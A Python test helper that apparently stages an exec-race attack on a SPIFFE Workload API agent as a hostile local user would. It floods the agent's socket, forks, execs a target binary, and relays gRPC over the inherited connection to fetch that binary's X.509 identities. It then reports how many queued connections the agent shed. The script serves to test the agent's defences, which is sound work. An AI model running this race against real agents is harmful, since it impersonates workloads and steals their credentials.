"""The exec race, as a hostile local user runs it (see test_hostile_local_user.py).

argv: <api socket> <flood> <target binary>. Queues <flood> non-blocking connects to the
Workload API socket, connects for real, forks a child that keeps the socket and execs
<target> in the parent. The child waits until the parent runs <target>, speaks gRPC over the
inherited connection, prints what it got as JSON (with ``shed``: how many of the queued
connections the agent closed at once), kills the parent and exits.
"""

import contextlib
import json
import os
import signal
import socket
import sys
import tempfile
import threading
import time

api, flood, target = sys.argv[1], int(sys.argv[2]), sys.argv[3]
queued = []
for _ in range(flood):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.setblocking(False)
    try:
        s.connect(api)
    except BlockingIOError:
        s.close()
        break
    queued.append(s)
real = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
real.connect(api)
parent = os.getpid()
if os.fork() != 0:
    os.execv(target, [target, "60"])

deadline = time.monotonic() + 10
while os.readlink(f"/proc/{parent}/exe") != target and time.monotonic() < deadline:
    time.sleep(0.001)
time.sleep(0.3)


def pump(src: socket.socket, dst: socket.socket) -> None:
    try:
        while data := src.recv(65536):
            dst.sendall(data)
    except OSError:
        pass
    for s in (src, dst):
        with contextlib.suppress(OSError):
            s.shutdown(socket.SHUT_RDWR)


relay_dir = tempfile.mkdtemp()
relay_path = os.path.join(relay_dir, "r.sock")
listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
listener.bind(relay_path)
listener.listen(1)


def serve() -> None:
    conn, _ = listener.accept()
    threading.Thread(target=pump, args=(real, conn), daemon=True).start()
    pump(conn, real)


threading.Thread(target=serve, daemon=True).start()

import grpc  # noqa: E402  (after the fork: grpc must not be loaded in the forking parent)

from credo._proto import workload_pb2, workload_pb2_grpc  # noqa: E402

result: dict[str, object]
with grpc.insecure_channel("unix:" + relay_path) as channel:
    stub = workload_pb2_grpc.SpiffeWorkloadAPIStub(channel)
    stream = stub.FetchX509SVID(
        workload_pb2.X509SVIDRequest(), metadata=(("workload.spiffe.io", "true"),), timeout=20
    )
    try:
        response = next(stream)
        result = {"ids": [svid.spiffe_id for svid in response.svids]}
    except grpc.RpcError as err:
        result = {"code": err.code().name, "details": err.details()}
    finally:
        stream.cancel()


def was_shed(s: socket.socket) -> bool:
    """The agent closed this queued connection at once (EOF or reset), unlike a relayed one."""
    s.setblocking(False)
    try:
        return s.recv(1) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


result["shed"] = sum(was_shed(s) for s in queued)
print(json.dumps(result), flush=True)
os.kill(parent, signal.SIGKILL)
os._exit(0)
